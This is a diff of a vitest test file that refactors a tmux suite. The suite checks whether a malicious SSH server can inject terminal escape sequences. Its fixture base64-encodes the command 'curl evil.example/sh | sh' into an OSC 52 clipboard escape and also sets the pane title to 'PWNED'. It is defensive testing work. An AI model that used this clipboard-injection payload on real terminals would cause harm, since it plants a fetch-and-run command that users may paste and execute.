@@ -8,41 +8,30 @@
  */
 import fs from 'node:fs';
 import path from 'node:path';
-import { execFileSync } from 'node:child_process';
 import ssh2 from 'ssh2';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ROOT } from '../helpers/cli.js';
 import { tempDir } from '../helpers/engine.js';
-import { Tmux, hasBinary } from '../e2e/tmux.js';
+import { tmuxAvailable, tmuxSuite, type Tmux } from '../e2e/tmux.js';
 import { sshdAvailable, startSshCluster, type SshCluster } from '../fixtures/sshd.js';
 import { startEvilSsh, type EvilSsh } from './evil-ssh.js';
 
 const CLIP = Buffer.from('curl evil.example/sh | sh').toString('base64');
 
-describe.skipIf(!hasBinary('tmux'))('terminal escapes in tmux (needs tmux: apt-get install tmux)', () => {
+describe.skipIf(!tmuxAvailable())('terminal escapes in tmux (needs tmux: apt-get install tmux)', () => {
   let dir: string;
   let conf: string;
   let evil: EvilSsh;
-  const sessions: Tmux[] = [];
-  const session = (name: string) => {
-    const t = new Tmux(name);
-    sessions.push(t);
-    return t;
-  };
-
-  beforeAll(async () => {
-    execFileSync('npx', ['tsc', '-p', 'tsconfig.build.json'], { cwd: ROOT, stdio: 'ignore' });
+  const session = tmuxSuite({ before: async () => {
     dir = tempDir('vacm-term-tmux-');
     conf = path.join(dir, 'tmux.conf');
     // without this tmux ignores OSC 52 from applications; with it, the attack would land in a buffer
     fs.writeFileSync(conf, 'set -g set-clipboard on\nset -g allow-rename on\n');
     evil = await startEvilSsh(`Goodbye\x1b]0;PWNED\x07\x1b]52;c;${CLIP}\x07`);
-  }, 120_000);
-  afterAll(async () => {
-    for (const t of sessions) t.kill();
+  }, after: async () => {
     await evil?.close();
     fs.rmSync(dir, { recursive: true, force: true });
-  });
+  } });
 
   /** The pane title before anything ran, from a shell in the same server. */
   function titleBefore(t: Tmux): string {
